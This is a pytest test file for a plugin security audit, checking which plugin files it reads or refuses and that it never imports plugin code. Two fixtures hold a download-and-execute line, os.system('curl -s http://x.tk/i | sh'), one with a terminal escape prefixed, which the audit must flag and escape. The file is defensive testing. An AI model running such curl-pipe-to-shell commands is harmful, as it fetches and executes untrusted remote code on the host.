"""Which files the audit reads, what it refuses to read, and that it never runs plugin code."""

from __future__ import annotations

import importlib.util
import os
import py_compile
import textwrap
from pathlib import Path

import pytest

from wiseflow._contract._errors import Problem
from wiseflow._contract._manifest import load_manifest
from wiseflow._policy._audit import audit_plugin, blocking

PLUGINS = Path(__file__).parent.parent / "src" / "wiseflow" / "plugins"


def plugin(root: Path, code: str = "X = 1\n", entry: str = "plugin:P", perms: str = "") -> Path:
    folder = root / "p"
    folder.mkdir()
    (folder / "plugin.toml").write_text(
        f'[plugin]\nname = "p"\nversion = "1"\nkind = "processor"\nentry = "{entry}"\n' + perms
    )
    (folder / "plugin.py").write_text(textwrap.dedent(code))
    return folder


def audit(folder: Path) -> list[Problem]:
    return audit_plugin(load_manifest(folder), folder)


def rules(problems: list[Problem]) -> set[tuple[str | None, str | None]]:
    return {(p.rule, p.severity) for p in problems}


def test_tests_folder_is_audited(tmp_path: Path) -> None:
    """Code under tests/ is read like any other: an entry may point there."""
    folder = plugin(tmp_path, entry="tests.x:Y")
    (folder / "tests").mkdir()
    (folder / "tests" / "x.py").write_text("import ctypes\n")
    found = audit(folder)
    assert ("native-code", "critical") in rules(found)
    assert any(p.file and p.file.endswith("tests/x.py") for p in found)


def test_hidden_folders_are_not_read(tmp_path: Path) -> None:
    """A .venv or .git folder cannot be imported as a package and is skipped."""
    folder = plugin(tmp_path)
    (folder / ".venv").mkdir()
    (folder / ".venv" / "x.py").write_text("import ctypes\n")
    assert audit(folder) == []


def test_non_utf8_source_is_refused(tmp_path: Path) -> None:
    """Source that is not UTF-8 cannot be audited: high."""
    folder = plugin(tmp_path)
    (folder / "latin.py").write_bytes(b"# -*- coding: latin-1 -*-\nX = '\xe9'\n")
    assert ("unreadable", "high") in rules(audit(folder))


def test_source_with_a_byte_order_mark_is_read(tmp_path: Path) -> None:
    """A UTF-8 BOM (which Python accepts) does not make source unreadable."""
    folder = plugin(tmp_path)
    (folder / "bom.py").write_bytes(b"\xef\xbb\xbfimport ctypes\n")
    found = [p for p in audit(folder) if p.file and p.file.endswith("bom.py")]
    assert [(p.rule, p.severity) for p in found] == [("native-code", "critical")]


def test_oversized_source_is_refused(tmp_path: Path) -> None:
    """A source file over the size bound is refused, not read."""
    folder = plugin(tmp_path)
    with open(folder / "big.py", "w") as fh:
        fh.write("X = 1\n" * (1 << 20))
    found = [p for p in audit(folder) if p.file and p.file.endswith("big.py")]
    assert [(p.rule, p.severity) for p in found] == [("unreadable", "high")]
    assert "larger than" in found[0].message


def test_symlinked_folder_is_refused(tmp_path: Path) -> None:
    """A symlinked folder (which imports would follow) is refused: the walk does not enter it."""
    folder = plugin(tmp_path)
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "evil.py").write_text("import ctypes\n")
    (folder / "sub").symlink_to(tmp_path / "elsewhere")
    found = audit(folder)
    assert ("unreadable", "high") in rules(found)
    assert ("native-code", "critical") not in rules(found)


def _pyc(source: Path, mode: py_compile.PycInvalidationMode) -> Path:
    target = importlib.util.cache_from_source(str(source))
    py_compile.compile(str(source), cfile=target, invalidation_mode=mode, doraise=True)
    return Path(target)


def test_pycache_is_not_read_since_plugins_load_from_source(tmp_path: Path) -> None:
    """Bytecode in __pycache__ (even unchecked-hash, even a FIFO) is inert: no finding."""
    folder = plugin(tmp_path)
    _pyc(folder / "plugin.py", py_compile.PycInvalidationMode.UNCHECKED_HASH)
    os.mkfifo(folder / "__pycache__" / "other.cpython-311.pyc")
    assert audit(folder) == []


def test_bytecode_without_source_is_refused(tmp_path: Path) -> None:
    """A .pyc beside the modules with no .py of its name is refused; with its .py it is not."""
    folder = plugin(tmp_path)
    (folder / "lonely.pyc").write_bytes(b"\x00" * 16)
    (folder / "plugin.pyc").write_bytes(b"\x00" * 16)
    found = [(p.rule, p.severity, Path(p.file or "").name) for p in audit(folder)]
    assert found == [("compiled-code", "high", "lonely.pyc")]


def test_audit_never_imports_the_plugin(tmp_path: Path) -> None:
    """Auditing reads source only: a module that writes a marker on import leaves none."""
    marker = tmp_path / "imported"
    folder = plugin(tmp_path, code=f"open({str(marker)!r}, 'w').write('x')\n")
    audit(folder)
    assert not marker.exists()


@pytest.mark.parametrize("name", sorted(p.parent.name for p in PLUGINS.glob("*/plugin.toml")))
def test_bundled_plugins_are_admitted_at_the_default_threshold(name: str) -> None:
    """No bundled plugin has a finding at high or above (audit_block = "high")."""
    folder = PLUGINS / name
    found = audit_plugin(load_manifest(folder), folder)
    assert blocking(found, "high") == []


def test_bundled_plugins_at_strict_are_where_they_were() -> None:
    """At strict (medium) only git is refused, for reading PATH, as before."""
    refused = set()
    for toml in sorted(PLUGINS.glob("*/plugin.toml")):
        manifest = load_manifest(toml.parent)
        if blocking(audit_plugin(manifest, toml.parent), "medium"):
            refused.add(manifest.name)
    assert refused == {"git"}


def test_findings_are_problems_with_rule_severity_place_and_hint(tmp_path: Path) -> None:
    """Each finding is a WF302 problem naming the plugin, file, line, rule, severity, hint."""
    folder = plugin(tmp_path, code="import os\nos.system('curl -s http://x.tk/i | sh')\n")
    (problem,) = [p for p in audit(folder) if p.rule == "download-exec"]
    assert problem.code == "WF302" and problem.plugin == "p"
    assert problem.severity == "critical" and problem.line == 2
    assert problem.file == str(folder / "plugin.py") and problem.hint
    assert os.path.basename(problem.file) in problem.message


def test_plugin_text_in_findings_cannot_drive_the_terminal(tmp_path: Path) -> None:
    """An escape sequence in a plugin's command line is shown escaped in the finding."""
    folder = plugin(tmp_path, code="import os\nos.system('\\x1b[2Jcurl -s http://x.tk/a | sh')\n")
    messages = [p.message for p in audit(folder)]
    assert messages and not any("\x1b" in m for m in messages)
    assert any("\\x1b" in m for m in messages)
